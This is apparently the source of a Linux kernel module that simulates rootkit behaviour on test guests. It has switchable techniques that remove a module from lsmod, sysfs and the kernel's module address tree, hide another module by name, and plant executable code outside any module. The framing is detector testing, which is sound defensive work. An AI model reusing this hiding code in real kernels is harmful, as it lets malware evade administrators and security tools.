// SPDX-License-Identifier: GPL-2.0-only
// An attack simulator for test guests (attack.h): this module leaves the places where modules are looked for, one or
// all of them, and comes back; and code that is in no module at all.
#include "attack.h"

#include <linux/mutex.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/vmalloc.h>

static struct module *hidden = THIS_MODULE;
static struct list_head *before;
static int lock_modules(void)
{
	struct mutex *mutex = attack_symbol("module_mutex");
	if (!mutex)
		return -EOPNOTSUPP;
	mutex_lock(mutex);
	return 0;
}

static void unlock_modules(void)
{
	mutex_unlock(attack_symbol("module_mutex"));
}

// lsmod
static int unlist_on(const char *argument)
{
	int result = lock_modules();
	if (result)
		return result;
	before = hidden->list.prev;
	list_del_rcu(&hidden->list);
	unlock_modules();
	return 0;
}

static void unlist_off(void)
{
	lock_modules();
	list_add_rcu(&hidden->list, before);
	unlock_modules();
}

// /sys/module: its kset no longer leads to the module.
static struct list_head *before_in_sysfs;

static int unsysfs_on(const char *argument)
{
	struct kobject *object = &hidden->mkobj.kobj;
	if (!object->kset)
		return -EOPNOTSUPP;
	spin_lock(&object->kset->list_lock);
	before_in_sysfs = object->entry.prev;
	list_del_init(&object->entry);
	spin_unlock(&object->kset->list_lock);
	return 0;
}

static void unsysfs_off(void)
{
	struct kobject *object = &hidden->mkobj.kobj;
	spin_lock(&object->kset->list_lock);
	list_add(&object->entry, before_in_sysfs);
	spin_unlock(&object->kset->list_lock);
}

// The tree by which the kernel finds the module that an address lies in.
static unsigned long node_address(struct latch_tree_node *node)
{
	struct mod_tree_node *of = container_of(node, struct mod_tree_node, node);
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	return (unsigned long)container_of(of, struct module_memory, mtn)->base;
#else
	return (unsigned long)container_of(of, struct module_layout, mtn)->base;
#endif
}

static bool node_less(struct latch_tree_node *one, struct latch_tree_node *other)
{
	return node_address(one) < node_address(other);
}

static const struct latch_tree_ops tree_operations = {.less = node_less};

static void change_tree(struct latch_tree_root *root, bool insert)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	enum mod_mem_type type;
	for (type = MOD_TEXT; type < MOD_MEM_NUM_TYPES; type++) {
		struct module_memory *memory = &hidden->mem[type];
		// Memory for initialisation has left the tree by itself.
		if (!memory->size || type == MOD_INIT_TEXT || type == MOD_INIT_DATA || type == MOD_INIT_RODATA)
			continue;
#else
	{
		struct module_layout *memory = &hidden->core_layout;
#endif
		if (insert)
			latch_tree_insert(&memory->mtn.node, root, &tree_operations);
		else
			latch_tree_erase(&memory->mtn.node, root, &tree_operations);
	}
}

static int untree_on(const char *argument)
{
	struct latch_tree_root *root = attack_symbol("mod_tree"); // its first member
	int result = root ? lock_modules() : -EOPNOTSUPP;
	if (result)
		return result;
	change_tree(root, false);
	unlock_modules();
	return 0;
}

static void untree_off(void)
{
	lock_modules();
	change_tree(attack_symbol("mod_tree"), true);
	unlock_modules();
}

static int hide_on(const char *argument)
{
	int result = unlist_on(argument);
	if (result)
		return result;
	result = unsysfs_on(argument);
	if (!result) {
		result = untree_on(argument);
		if (!result)
			return 0;
		unsysfs_off();
	}
	unlist_off();
	return result;
}

static void hide_off(void)
{
	untree_off();
	unsysfs_off();
	unlist_off();
}

// Another module, that ARGUMENT names, leaves all of these, and the list by which the kernel finds where it warns: what is
// left are its types, where its kernel has such ones of modules.
static int hide_other_on(const char *argument)
{
	struct module *(*find)(const char *) = attack_symbol("find_module");
	int result = find && attack_symbol("module_bug_list") && attack_symbol("btf_modules") ? lock_modules() : -EOPNOTSUPP;
	if (result)
		return result;
	hidden = find(argument);
	unlock_modules();
	result = hidden ? hide_on("") : -ENOENT;
	if (result) {
		hidden = THIS_MODULE;
		return result;
	}
	lock_modules();
	list_del_rcu(&hidden->bug_list);
	unlock_modules();
	return 0;
}

static void hide_other_off(void)
{
	lock_modules();
	list_add_rcu(&hidden->bug_list, attack_symbol("module_bug_list"));
	unlock_modules();
	hide_off();
	hidden = THIS_MODULE;
}

// xor %eax, %eax; ret
static const u8 orphan_content[] = {0x31, 0xc0, 0xc3};
static void *orphan_far;

static int orphan_on(const char *argument)
{
	return attack_code("orphan", attack_symbol("vfs_statfs")) ? 0 : -ENOMEM;
}

static void orphan_off(void)
{
	// main.c frees the page when the last technique is off
}

static int orphan_far_on(const char *argument)
{
	int (*read_only)(unsigned long, int) = attack_symbol("set_memory_ro");
	int (*executable)(unsigned long, int) = attack_symbol("set_memory_x");
	if (!read_only || !executable)
		return -EOPNOTSUPP;
	orphan_far = vmalloc(PAGE_SIZE);
	if (!orphan_far)
		return -ENOMEM;
	memset(orphan_far, 0xcc, PAGE_SIZE);
	memcpy(orphan_far, orphan_content, sizeof(orphan_content));
	read_only((unsigned long)orphan_far, 1);
	executable((unsigned long)orphan_far, 1);
	return 0;
}

static void orphan_far_off(void)
{
	int (*not_executable)(unsigned long, int) = attack_symbol("set_memory_nx");
	int (*writable)(unsigned long, int) = attack_symbol("set_memory_rw");
	not_executable((unsigned long)orphan_far, 1);
	writable((unsigned long)orphan_far, 1);
	vfree(orphan_far);
}

struct attack attack_modules[] = {
	{"module_unlisted", unlist_on, unlist_off},
	{"module_not_in_sysfs", unsysfs_on, unsysfs_off},
	{"module_not_in_tree", untree_on, untree_off},
	{"module_hidden", hide_on, hide_off},
	{"module_in_no_list", hide_other_on, hide_other_off},
	{"orphan_code", orphan_on, orphan_off},
	{"orphan_code_vmalloc", orphan_far_on, orphan_far_off},
	{},
};
